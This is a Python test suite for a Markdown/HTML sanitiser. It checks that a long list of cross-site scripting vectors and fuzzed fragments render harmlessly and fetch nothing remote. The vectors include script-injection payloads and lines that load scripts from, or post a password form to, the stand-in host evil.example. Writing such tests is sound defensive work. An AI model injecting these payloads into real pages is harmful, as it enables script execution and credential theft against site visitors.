from __future__ import annotations

from collections.abc import Callable

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bantin.markdown.sanitise import CLASSES, sanitise

VECTORS = [
    # Markdown
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a]( javascript:alert(1))",
    "[a](java\tscript:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))",
    "[a](vbscript:msgbox(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](file:///etc/passwd)",
    "[a](lost:https://evil.example/a.jpg)",
    "[a](//evil.example/)",
    "[a](/\\evil.example/)",
    "[a](\\\\\\\\evil.example/)",
    "[a](/&#9;/evil.example/)",
    "[a][x]\n\n[x]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![a](javascript:alert(1))",
    "![a](data:image/svg+xml;base64,PHN2Zy8+)",
    "![a](https://evil.example/track.gif)",
    "![a](//evil.example/track.gif)",
    '![a"onerror="alert(1)](/a.jpg)',
    '![a](/a.jpg "x\\" onerror=\\"alert(1)")',
    '![a](/a.jpg "<script>alert(1)</script>")',
    '![<img src=x onerror=alert(1)>](/a.jpg "<img src=x onerror=alert(1)>")',
    "[![a](javascript:alert(1))](javascript:alert(2))",
    "text[^1]\n\n[^1]: <script>alert(1)</script>",
    'text[^"onclick="alert(1)]\n\n[^"onclick="alert(1)]: x',
    '*[HTML]: "><script>alert(1)</script>\n\nHTML',
    '*[UBND]: x" onmouseover="alert(1)\n\nUBND',
    "| <script>alert(1)</script> | b |\n|---|---|\n| c | d |",
    "Thuật ngữ\n: <script>alert(1)</script>",
    "* Đối với <script>alert(1)</script>:\n- <img src=x onerror=alert(1)>",
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    # Attribute lists
    "# H {onclick=alert(1)}",
    "![a](/b.jpg){onerror=alert(1)}",
    "[a](/b){onclick=alert(1) target=_blank rel=opener}",
    "Đoạn\n{: style='position:fixed;inset:0' onmouseover='alert(1)'}",
    "# H {#content .masthead}",
    '# H {#x"onclick="alert(1)}',
    "# H {id=__proto__}",
    "[a](/b){href=javascript:alert(1)}",
    "![a](/b.jpg){srcset='https://evil.example/a 1x' src=javascript:alert(1)}",
    "*a*{style=color:red class=hidden tabindex=5 contenteditable=true}",
    # Raw HTML
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<script",
    "<style>body { display: none }</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<img srcset='https://evil.example/a 2x' src=/a.jpg>",
    "<img src=/a.jpg alt='a' title='\"><script>alert(1)</script>'>",
    "<p onclick=alert(1)>a</p>",
    "<p style='background:url(https://evil.example/a)'>a</p>",
    "<p id=content class='masthead align-center'>a</p>",
    "<a href='javascript:alert(1)'>a</a>",
    "<a href='jav&#x0A;ascript:alert(1)'>a</a>",
    "<a href='\x01javascript:alert(1)'>a</a>",
    "<a href='https://evil.example/' target=_blank ping=/x>a</a>",
    "<a name=body id=forms>a</a>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>a</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<template><img src=x onerror=alert(1)></template>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe src=https://evil.example/></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src='https://evil.example/\"><script>alert(1)</script>'></iframe>",
    "<iframe src='data:text/html,<script>alert(1)</script>'></iframe>",
    "<iframe src='http://[/'></iframe>",
    "<video src=javascript:alert(1) onerror=alert(1)></video>",
    "<video><source src=x onerror=alert(1)></video>",
    "<audio src=https://evil.example/a.mp3 autoplay></audio>",
    "<object data=https://evil.example/a.swf><p>b</p></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=https://evil.example/><input name=password><button>a</button></form>",
    "<button formaction=javascript:alert(1)>a</button>",
    "<details open ontoggle=alert(1)>a</details>",
    "<marquee onstart=alert(1)>a</marquee>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<table background=javascript:alert(1)><tr><td style='x:expression(alert(1))' colspan=99999>a</td></tr></table>",
    "<div class='table-scroll' tabindex=1 role=alert aria-label=x>a</div>",
    "<figure class=figure><img src=x onerror=alert(1)><figcaption><script>alert(1)</script></figcaption></figure>",
    "<figure><img src=javascript:alert(1)><figcaption onclick=alert(1)>a</figcaption></figure>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo 1 ?><img src=x onerror=alert(1)>",
    "<p><b><i></p></i></b><img src=x onerror=alert(1)//",
    "<a href='x' <img src=x onerror=alert(1)>",
    "\x02klzzwxh:0000\x03<script>alert(1)</script>",
    "\x02wzxhzdk:0\x03",
]


@pytest.mark.parametrize("source", VECTORS)
def test_no_attack_survives(source: str, draw: Callable[[str], str], assert_safe: Callable[[str], None]) -> None:
    """Whatever a body is written as, alone or below a picture, the page holds only what the list allows."""
    assert_safe(draw(source))
    assert_safe(draw(f"![](/a.jpg)\n\n{source}\n\n![](/b.jpg)\n{source}"))


@pytest.mark.parametrize("source", VECTORS)
def test_no_attack_asks_another_server(source: str, draw: Callable[[str], str]) -> None:
    """A page fetches nothing from elsewhere: remote addresses stand in links alone."""
    html = draw(source) + draw(f"![](/a.jpg)\n{source}\n\n<figure><img src=/a.jpg><figcaption>{source}")
    for attribute in ("src", "srcset", "data", "poster", "background"):
        assert f' {attribute}="http' not in html


FRAGMENTS = [
    "<",
    ">",
    '"',
    "'",
    "=",
    "/",
    "\n",
    "\n\n",
    " ",
    "(",
    ")",
    "[",
    "]",
    "!",
    "{",
    "}",
    "*",
    "`",
    "&#",
    ";",
    "#",
]
FRAGMENTS += [
    "<img src=",
    "<a href=",
    "javascript:",
    "onerror=alert(1)",
    "<script>",
    "</script>",
    "<svg>",
    "<p ",
    "</p>",
]
FRAGMENTS += [
    "<style>",
    "-->",
    "<!--",
    "![",
    "](/a.jpg",
    "<iframe src=",
    "<figure>",
    "<figcaption>",
    "class=x",
    "Ảnh: A",
]


@given(st.lists(st.one_of(st.sampled_from(FRAGMENTS), st.text(max_size=3)), max_size=25).map("".join))
@settings(max_examples=300, deadline=None)
def test_no_mixture_of_marks_survives(
    draw: Callable[[str], str], assert_safe: Callable[[str], None], source: str
) -> None:
    """Any mixture of dangerous pieces renders to what the list allows."""
    assert_safe(draw(source))


@pytest.mark.parametrize(
    ("html", "kept"),
    [
        ('<p lang="en">a</p>', '<p lang="en">a</p>'),
        ('<p class="align-center x">a</p>', '<p class="align-center">a</p>'),
        ('<h2 id="muc-1">a</h2>', '<h2 id="body-muc-1">a</h2>'),
        ('<h2 id="mục">a</h2>', "<h2>a</h2>"),
        ('<a href="#muc-1">a</a>', '<a href="#body-muc-1">a</a>'),
        ('<td colspan="2">a</td>', "a"),
        ('<table><tr><td colspan="2" width="9">a', '<table><tbody><tr><td colspan="2">a</td></tr></tbody></table>'),
        ('<ol start="3"><li>a</li></ol>', '<ol start="3"><li>a</li></ol>'),
        ('<a href="mailto:a@b.vn">a</a>', '<a href="mailto:a@b.vn">a</a>'),
        ("<font color=red>chữ</font>", "chữ"),
    ],
)
def test_what_an_editor_needs_is_kept(html: str, kept: str) -> None:
    """Language, alignment, safe ids, spans and numbers of lists stand; the words of unknown elements stay."""
    assert sanitise(html) == kept


def test_every_class_is_named_for_an_element() -> None:
    """The list of classes holds no element that the sanitiser drops."""
    assert all(sanitise(f'<table><tr><{name} class="{min(names)}">x') for name, names in CLASSES.items())
